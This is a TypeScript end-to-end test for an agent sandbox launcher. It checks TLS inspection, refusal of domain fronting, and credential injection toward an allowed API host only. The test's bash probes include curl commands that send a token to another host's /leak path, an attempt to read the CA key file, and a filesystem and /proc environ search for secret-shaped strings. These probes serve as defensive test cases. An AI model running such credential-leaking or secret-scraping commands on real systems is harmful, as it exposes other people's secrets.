import { chownSync, mkdirSync, mkdtempSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { runLauncher, type LauncherResult } from './helpers/run-launcher.js';
import {
  CHECK_HELPERS,
  checkNames,
  createLabNetwork,
  makeSelfSignedCertificate,
  waitForPort,
  type LabNetwork,
} from './helpers/test-hosts.js';

/**
 * TLS inspection (R160-R166), judged by what the test hosts logged: one TLS server answers
 * for cdn-allowed.test and cdn-evil.test on one address (its certificate trusted with
 * --ca-cert; the agent's clients never use -k), and api.test logs the credential it
 * received. The agent holds a placeholder; the real value reaches api.test only, is refused
 * toward any other host, and is on no file, argv or environment the agent can read.
 */
const AGENT_UID = process.getuid?.() === 0 ? 4242 : (process.getuid?.() ?? 1000);
const REAL = `realtok-${'Q7x'.repeat(8)}`; // the shape the agent's search looks for: realtok-[A-Za-z0-9]{24}

/** HTTPS (and HTTP) server logging `SERVED proto host=… sni=… auth=… path=…`; it echoes the Authorization it got. */
const API_SERVER = String.raw`const http=require('http'),https=require('https'),fs=require('fs');
const h=(p)=>(q,s)=>{let b='';q.on('data',d=>{if(b.length<300)b+=d;});q.on('end',()=>{
 console.log('SERVED '+p+' host='+(q.headers.host||'')+' sni='+(q.socket.servername||'')+' auth='+(q.headers.authorization||'-')+
  ' method='+q.method+' path='+q.url+' body='+b.replace(/\s/g,'_'));
 s.end('seen '+(q.headers.authorization||'-')+'\n');});};
http.createServer(h('http')).listen(80,'::');
https.createServer({key:fs.readFileSync('/certs/server.key'),cert:fs.readFileSync('/certs/server.crt')},h('https')).listen(443,'::');`;

const CHECKS = String.raw`
NAME="HTTPS to an allowed name, trusted through the run's CA (no -k)"; ok curl -fsS -m 10 https://cdn-allowed.test/
NAME="the certificate the agent sees is the run CA's";     ok bash -c 'openssl s_client -connect cdn-allowed.test:443 \
  -servername cdn-allowed.test </dev/null 2>/dev/null | openssl x509 -noout -issuer | grep -q "codex-sandbox run CA"'
NAME="fronting: allowed SNI, other Host, is refused with 421"; ok bash -c '[[ "$(curl -sS -m 10 -o /dev/null -w "%{http_code}" \
  -H "Host: cdn-evil.test" https://cdn-allowed.test/)" == 421 ]]'
NAME="fronting: the refusal says why";                      ok bash -c 'curl -sS -m 10 -H "Host: cdn-evil.test" https://cdn-allowed.test/ |
  grep -q "does not match the TLS server name"'
NAME="the CA's key is not readable by the agent";           fails bash -c 'cat /run/codex-sandbox/inspect/mitmproxy-ca.pem'
NAME="the inspection port refuses the agent";               fails curl -fsS -m 5 -x http://127.0.0.1:3140 http://cdn-allowed.test/
NAME="the agent's variable is a placeholder of the same shape"; ok bash -c '[[ "$TEST_TOKEN" =~ ^realtok-[A-Za-z0-9]{24}$ ]]'
NAME="the placeholder works toward its host";               ok bash -c 'curl -fsS -m 10 -H "Authorization: Bearer $TEST_TOKEN" \
  https://api.test/with-token | grep -qF "seen Bearer $TEST_TOKEN"'
NAME="the placeholder in a body toward its host";           ok curl -fsS -m 10 --data "token=$TEST_TOKEN" https://api.test/body
NAME="the placeholder toward another allowed host is refused"; ok bash -c '[[ "$(curl -sS -m 10 -o /dev/null -w "%{http_code}" \
  -H "Authorization: Bearer $TEST_TOKEN" https://cdn-allowed.test/leak)" == 403 ]]'
NAME="the placeholder in a URL toward another host is refused"; ok bash -c '[[ "$(curl -sS -m 10 -o /dev/null -w "%{http_code}" \
  "http://cdn-allowed.test/leak?k=$TEST_TOKEN")" == 403 ]]'
NAME="a no-inspect host keeps its own certificate";         ok bash -c 'openssl s_client -connect plain.test:443 -servername plain.test \
  </dev/null 2>/dev/null | openssl x509 -noout -issuer | grep -q "CN = cdn-allowed.test"'
NAME="search: files, argv and environ the agent can read";  ok bash -c '{ grep -rIhaoE "realtok-[A-Za-z0-9]{24}" / \
  --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev 2>/dev/null; cat /proc/[0-9]*/cmdline /proc/[0-9]*/environ 2>/dev/null |
  tr "\0" "\n" | grep -aoE "realtok-[A-Za-z0-9]{24}"; } | sort -u | sed "s/^/FOUND /"; true'
`;

let scratch: string;
let home: string;
let workdir: string;
let lab: LabNetwork;
let web: string;
let api: string;
let run: LauncherResult;

beforeAll(() => {
  scratch = mkdtempSync(path.join(os.tmpdir(), 'cs-e2e-inspect-'));
  home = path.join(scratch, 'home');
  workdir = path.join(scratch, 'project');
  const certs = path.join(scratch, 'certs');
  for (const dir of [home, workdir, certs]) mkdirSync(dir);
  if (process.getuid?.() === 0) chownSync(workdir, AGENT_UID, AGENT_UID);
  makeSelfSignedCertificate(certs, ['cdn-allowed.test', 'cdn-evil.test', 'api.test', 'plain.test']);
  const certMount = ['--mount', `type=bind,source=${certs},target=/certs,readonly`];
  lab = createLabNetwork('cs-e2e-inspect');
  web = lab.startNode('web', ['cdn-allowed.test', 'cdn-evil.test', 'plain.test'], API_SERVER, certMount);
  api = lab.startNode('api', ['api.test'], API_SERVER, certMount);
  for (const host of [web, api]) waitForPort(host, 443, true);
  const args = ['shell', '--work_dir', workdir, '--network', lab.name, '--allow', 'cdn-allowed.test,api.test,plain.test'];
  args.push('--ca-cert', path.join(certs, 'server.crt'), '--no-inspect', 'plain.test', '--secret', 'TEST_TOKEN=api.test');
  run = runLauncher([...args, '--', 'bash', '-s'], {
    cwd: scratch,
    env: { HOME: home, TEST_TOKEN: REAL },
    input: `${CHECK_HELPERS}${CHECKS}`,
    timeoutMs: 240000,
  });
}, 400000);

afterAll(() => {
  lab?.remove();
  if (scratch !== undefined) rmSync(scratch, { recursive: true, force: true });
});

function resultOf(name: string): string {
  return (
    run.stdout.split('\n').find((line) => line === `PASS ${name}` || line.startsWith(`FAIL ${name}`)) ?? `missing: ${name}\n${run.stderr}`
  );
}

describe('TLS inspected in the sandbox, credentials injected outside the agent (R160-R166)', () => {
  test('every check ran', () => {
    expect({ status: run.status, results: run.stdout.split('\n').filter((l) => /^(PASS|FAIL) /.test(l)).length }).toEqual({
      status: 0,
      results: checkNames(CHECKS).length,
    });
  });

  test.each(checkNames(CHECKS))('%s', (name) => {
    expect(resultOf(name)).toBe(`PASS ${name}`);
  });

  test('the fronted name was never served; the allowed one was, with the real SNI', () => {
    const logs = lab.logs(web);
    expect(logs).toContain('SERVED https host=cdn-allowed.test sni=cdn-allowed.test');
    expect(logs).not.toContain('host=cdn-evil.test');
    expect(logs).not.toContain('/leak');
  });

  test('the API host received the real credential, in the header and in the body', () => {
    const logs = lab.logs(api);
    expect(logs).toContain(`auth=Bearer ${REAL} method=GET path=/with-token`);
    expect(logs).toContain(`path=/body body=token=${REAL}`);
    expect(logs).not.toMatch(/realtok-(?!Q7xQ7x)/);
  });

  test('the search found the placeholder (it works) and never the real value', () => {
    const found = run.stdout.split('\n').filter((l) => l.startsWith('FOUND '));
    expect(found.length).toBeGreaterThan(0);
    expect(found).not.toContain(`FOUND ${REAL}`);
    expect(run.stdout).not.toContain(REAL);
    expect(run.stderr).not.toContain(REAL);
  });

  test('the attempt to leak is in the record, by credential name and host', () => {
    const egress = runLauncher(['egress', '--json', '--requests'], { cwd: workdir, env: { HOME: home } });
    expect(egress.stdout).toContain('credential sent to cdn-allowed.test');
    expect(egress.stdout).toContain('TEST_TOKEN');
    expect(egress.stdout).toContain('name does not match');
  });
});
